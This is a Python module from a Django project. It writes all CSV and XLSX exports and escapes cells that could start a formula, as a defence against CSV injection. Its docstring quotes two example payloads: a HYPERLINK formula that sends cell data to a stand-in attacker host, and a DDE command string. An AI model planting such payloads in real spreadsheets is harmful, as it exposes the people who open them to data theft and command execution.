"""Every spreadsheet GIR writes, CSV or XLSX, is written here, so that a cell is data and
never code (issue 19 item 2).

A text that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is what Excel and
LibreOffice read as the start of a formula: a location named
`=HYPERLINK("http://evil.example/?x="&A1,"klik")` would become a live link that sends the
sheet's cells away, `+cmd|' /C calc'!A0` a command (OWASP, "CSV Injection"). Such a text
is written with a single quote before it, as django-import-export and OWASP advise; in
an XLSX it is then also never stored as a formula (openpyxl makes every text that starts
with `=` one). Numbers, dates and empty cells stay what they are: a negative number is a
number, only the text "-2+3" is escaped.

Nothing else in GIR makes a `csv.writer` or an openpyxl `Workbook`;
`gir/home/tests/test_exports_are_data.py` checks that.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable, Mapping, Sequence
from typing import IO, Any

from django.utils.functional import Promise

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

# What a spreadsheet reads as the start of a formula (OWASP, CSV Injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"


def cell(value: Any) -> Any:
    """The value as it is written: a text that could start a formula gets a quote first;
    numbers, dates and None are left alone."""
    if isinstance(value, Promise):  # a lazy translation
        value = str(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return ESCAPE + value
    return value


def cells(row: Iterable[Any]) -> list[Any]:
    return [cell(value) for value in row]


def csv_write(rows: Iterable[Sequence[Any]], target: IO[str]) -> None:
    """Semicolons and a BOM: what Dutch Excel opens without an import wizard."""
    target.write("\ufeff")
    writer = csv.writer(target, delimiter=";", lineterminator="\r\n")
    for row in rows:
        writer.writerow(["" if value is None else value for value in cells(row)])


def csv_bytes(rows: Iterable[Sequence[Any]]) -> bytes:
    buffer = io.StringIO()
    csv_write(rows, buffer)
    return buffer.getvalue().encode("utf-8")


def xlsx_bytes(
    sheets: Mapping[str, Iterable[Sequence[Any]]],
    *,
    bold_header: bool = False,
    widths: Sequence[int] = (),
    date_format: str | None = None,
) -> bytes:
    """A workbook with a sheet per title (cut to Excel's 31 characters). Write-only, so
    memory stays flat for big exports. `bold_header` sets the first row in bold, `widths`
    the first columns' widths, `date_format` how dates show (otherwise yyyy-mm-dd)."""
    book = Workbook(write_only=True)
    for title, rows in sheets.items():
        sheet = book.create_sheet(title=str(title)[:31])
        for number, width in enumerate(widths, start=1):
            sheet.column_dimensions[get_column_letter(number)].width = width
        for index, row in enumerate(rows):
            bold = bold_header and index == 0
            if bold or date_format:
                sheet.append([_styled(sheet, value, bold, date_format) for value in cells(row)])
            else:
                sheet.append(cells(row))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _styled(sheet: Any, value: Any, bold: bool, date_format: str | None) -> Any:
    if not bold and not (date_format and isinstance(value, dt.date)):
        return value
    styled = WriteOnlyCell(sheet, value=value)
    if bold:
        styled.font = Font(bold=True)
    if date_format and isinstance(value, dt.date):
        styled.number_format = date_format
    return styled
